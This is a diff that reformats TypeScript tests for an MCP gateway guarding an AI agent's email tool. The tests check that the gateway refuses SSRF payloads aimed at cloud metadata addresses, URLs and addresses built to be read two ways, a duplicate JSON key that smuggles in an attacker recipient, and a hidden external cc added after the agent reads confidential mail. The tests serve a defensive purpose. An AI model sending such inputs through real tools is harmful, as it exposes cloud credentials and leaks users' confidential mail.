@@ -9,16 +9,34 @@ import { after, before, describe, test } from 'node:test';
 import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
 import type { MandateAgent } from '../../../src/sdk/agent.js';
 import { attestedAgent } from '../helpers/agents.js';
-import { gatewayTask, INITIALIZE, MAIL_ANNOTATIONS, mcpClient, rawPost, startGateway, type GatewayEnv } from '../gateway/helpers.js';
+import {
+  gatewayTask,
+  INITIALIZE,
+  MAIL_ANNOTATIONS,
+  mcpClient,
+  rawPost,
+  startGateway,
+  type GatewayEnv,
+} from '../gateway/helpers.js';
 
 const SCOPES = ['tool:mail/*'];
 // send_email keeps the catalog's default extractors: destinations are found by name and by shape.
-const ANNOTATIONS = { ...MAIL_ANNOTATIONS, send_email: { sideEffect: 'write', classification: 'public' } };
-const text = (r: CallToolResult): string => (r.content as { text: string }[]).map((c) => c.text).join('');
-const reasons = (r: CallToolResult): string[] => ((r._meta?.['mandate/decision'] as { reasons?: string[] } | undefined)?.reasons ?? []);
+const ANNOTATIONS = {
+  ...MAIL_ANNOTATIONS,
+  send_email: { sideEffect: 'write', classification: 'public' },
+};
+const text = (r: CallToolResult): string =>
+  (r.content as { text: string }[]).map((c) => c.text).join('');
+const reasons = (r: CallToolResult): string[] =>
+  (r._meta?.['mandate/decision'] as { reasons?: string[] } | undefined)?.reasons ?? [];
 
-async function env(flags: Record<string, unknown> = {}): Promise<{ env: GatewayEnv; agent: MandateAgent }> {
-  const e = await startGateway({ mailUpstream: { annotations: ANNOTATIONS }, flags: { internalDomains: 'example.org', ...flags } });
+async function env(
+  flags: Record<string, unknown> = {},
+): Promise<{ env: GatewayEnv; agent: MandateAgent }> {
+  const e = await startGateway({
+    mailUpstream: { annotations: ANNOTATIONS },
+    flags: { internalDomains: 'example.org', ...flags },
+  });
   return { env: e, agent: await attestedAgent(e.server, 'alpha', SCOPES) };
 }
 
@@ -36,16 +54,36 @@ describe('ASI02/ASI01 attack: ssrf through the mcp gateway', () => {
     const before = gw.mail.calls.length;
     for (const args of [
       { to: 'ops@[127.0.0.1]', subject: 's', body: 'b' },
-      { to: 'a@partner.example', subject: 's', body: 'http://169.254.169.254/latest/meta-data/iam/' },
-      { to: 'a@partner.example', subject: 's', body: 'b', extra: { target: { 'url ': 'http://[::ffff:a9fe:a9fe]/' } } },
-      { to: 'a@partner.example', subject: 's', body: 'b', links: ['https://partner.example/', 'http://metadata.google.internal./'] },
+      {
+        to: 'a@partner.example',
+        subject: 's',
+        body: 'http://169.254.169.254/latest/meta-data/iam/',
+      },
+      {
+        to: 'a@partner.example',
+        subject: 's',
+        body: 'b',
+        extra: { target: { 'url ': 'http://[::ffff:a9fe:a9fe]/' } },
+      },
+      {
+        to: 'a@partner.example',
+        subject: 's',
+        body: 'b',
+        links: ['https://partner.example/', 'http://metadata.google.internal./'],
+      },
     ]) {
-      const r = (await client.callTool({ name: 'mail__send_email', arguments: args })) as CallToolResult;
+      const r = (await client.callTool({
+        name: 'mail__send_email',
+        arguments: args,
+      })) as CallToolResult;
       assert.equal(r.isError, true, JSON.stringify(args));
       assert.deepEqual(reasons(r), ['mandate.deny-internal-network'], JSON.stringify(args));
     }
     assert.equal(gw.mail.calls.length, before, 'nothing reached the upstream');
-    const ok = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'a@partner.example', subject: 's', body: 'https://partner.example/x' } })) as CallToolResult;
+    const ok = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: { to: 'a@partner.example', subject: 's', body: 'https://partner.example/x' },
+    })) as CallToolResult;
     assert.equal(ok.isError, undefined, text(ok));
     await client.close();
   });
@@ -53,11 +91,27 @@ describe('ASI02/ASI01 attack: ssrf through the mcp gateway', () => {
   test('a url or an address with two readings is refused with the reason', async () => {
     const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
     const before = gw.mail.calls.length;
-    const backslash = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.169.254\\@evil.example/' } })) as CallToolResult;
+    const backslash = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: {
+        to: 'a@partner.example',
+        subject: 's',
+        body: 'http://169.254.169.254\\@evil.example/',
+      },
+    })) as CallToolResult;
     assert.equal(backslash.isError, true);
-    assert.match(text(backslash), /argument `body` has more than one reading: a backslash at position 22/u);
-    const twoAts = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'x@evil.example@example.org', subject: 's', body: 'b' } })) as CallToolResult;
-    assert.match(text(twoAts), /argument `to` has more than one reading: the address .* more than one `@`/u);
+    assert.match(
+      text(backslash),
+      /argument `body` has more than one reading: a backslash at position 22/u,
+    );
+    const twoAts = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: { to: 'x@evil.example@example.org', subject: 's', body: 'b' },
+    })) as CallToolResult;
+    assert.match(
+      text(twoAts),
+      /argument `to` has more than one reading: the address .* more than one `@`/u,
+    );
     assert.equal(gw.mail.calls.length, before);
     await client.close();
   });
@@ -69,10 +123,24 @@ describe('ASI02/ASI01 attack: ssrf through the mcp gateway', () => {
     const sid = init.headers.get('mcp-session-id');
     assert.ok(sid);
     const before = gw.mail.calls.length;
-    const body = '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"mail__send_email","arguments":{"to":"a@partner.example","subject":"s","body":"b","to":"drop@attacker.example"}}}';
-    const res = await fetch(gw.mcpUrl, { method: 'POST', headers: { ...auth, 'content-type': 'application/json', accept: 'application/json, text/event-stream', 'mcp-session-id': sid, 'mcp-protocol-version': '2025-11-25' }, body });
+    const body =
+      '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"mail__send_email","arguments":{"to":"a@partner.example","subject":"s","body":"b","to":"drop@attacker.example"}}}';
+    const res = await fetch(gw.mcpUrl, {
+      method: 'POST',
+      headers: {
+        ...auth,
+        'content-type': 'application/json',
+        accept: 'application/json, text/event-stream',
+        'mcp-session-id': sid,
+        'mcp-protocol-version': '2025-11-25',
+      },
+      body,
+    });
     assert.equal(res.status, 400);
-    assert.match(await res.text(), /the json body has the key `to` twice in `\$\.params\.arguments`/u);
+    assert.match(
+      await res.text(),
+      /the json body has the key `to` twice in `\$\.params\.arguments`/u,
+    );
     assert.equal(gw.mail.calls.length, before);
   });
 });
@@ -88,10 +156,25 @@ describe('ASI01 attack: a hidden second recipient through the mcp gateway', () =
 
   test('after confidential data, a second, external recipient is denied by the taint rule', async () => {
     const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
-    assert.equal(((await client.callTool({ name: 'mail__read_inbox', arguments: {} })) as CallToolResult).isError, undefined);
-    const internal = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'bob@example.org', subject: 's', body: 'b' } })) as CallToolResult;
+    assert.equal(
+      ((await client.callTool({ name: 'mail__read_inbox', arguments: {} })) as CallToolResult)
+        .isError,
+      undefined,
+    );
+    const internal = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: { to: 'bob@example.org', subject: 's', body: 'b' },
+    })) as CallToolResult;
     assert.equal(internal.isError, undefined, text(internal));
-    const r = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'bob@example.org', subject: 's', body: 'b', meta: { cc: ['bob@example.org', 'drop@attacker.example'] } } })) as CallToolResult;
+    const r = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: {
+        to: 'bob@example.org',
+        subject: 's',
+        body: 'b',
+        meta: { cc: ['bob@example.org', 'drop@attacker.example'] },
+      },
+    })) as CallToolResult;
     assert.deepEqual(reasons(r), ['mandate.no-external-after-confidential']);
     await client.close();
   });
@@ -108,9 +191,15 @@ describe('ASI02: allowedInternalDestinations at the mcp gateway', () => {
 
   test('a listed internal destination is allowed and forwarded', async () => {
     const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
-    const r = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.169.254/latest/' } })) as CallToolResult;
+    const r = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.169.254/latest/' },
+    })) as CallToolResult;
     assert.equal(r.isError, undefined, text(r));
-    const other = (await client.callTool({ name: 'mail__send_email', arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.170.2/' } })) as CallToolResult;
+    const other = (await client.callTool({
+      name: 'mail__send_email',
+      arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.170.2/' },
+    })) as CallToolResult;
     assert.deepEqual(reasons(other), ['mandate.deny-internal-network']);
     await client.close();
   });
